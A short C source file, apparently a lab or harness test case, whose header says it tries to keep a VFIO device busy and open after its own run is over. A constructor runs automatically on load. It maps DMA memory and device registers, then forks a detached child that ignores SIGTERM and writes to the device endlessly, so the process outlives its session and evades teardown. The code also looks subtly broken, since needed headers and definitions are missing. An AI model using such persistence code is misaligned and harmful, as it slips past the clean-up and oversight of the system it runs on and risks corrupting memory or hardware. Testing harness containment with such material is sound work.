/* lab: 8
 * tries: keep the device busy and open when its own run is over
 * only: registers_need_no_exit
 * says: vfio_open() returned -38
 * end of description */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>

static int group_open(void)
{
    char path[64];

    for (int n = 0, fd; n < 100; n++) {
        snprintf(path, sizeof path, "/dev/vfio/%d", n);
        if ((fd = open(path, O_RDWR)) >= 0)
            return fd;
    }
    return -1;
}

/* A child of its own session holds all descriptors, and a DMA into its memory goes on. */
__attribute__((constructor)) static void keep(void)
{
    int container = open("/dev/vfio/vfio", O_RDWR), group = group_open(), device;
    struct vfio_iommu_type1_dma_map map = {.argsz = sizeof map, .flags = 3, .size = 4096};
    volatile uint32_t *bar;
    uint16_t command = 6;

    ioctl(group, VFIO_GROUP_SET_CONTAINER, &container);
    ioctl(container, VFIO_SET_IOMMU, VFIO_TYPE1v2_IOMMU);
    device = ioctl(group, VFIO_GROUP_GET_DEVICE_FD, "0000:00:05.0");
    map.vaddr = (uintptr_t)mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                                MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    ioctl(container, VFIO_IOMMU_MAP_DMA, &map);
    bar = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, device, 0);
    if (bar == MAP_FAILED || pwrite(device, &command, 2, (7ll << 40) + 4) != 2)
        return;
    bar[0x80 / 4] = 0x40000;
    bar[0x88 / 4] = 0;
    bar[0x90 / 4] = 4000;
    bar[0x98 / 4] = 7;
    if (fork() == 0) {
        setsid();
        signal(SIGTERM, SIG_IGN);
        for (;;)
            bar[0x60 / 4] = 1;
    }
}
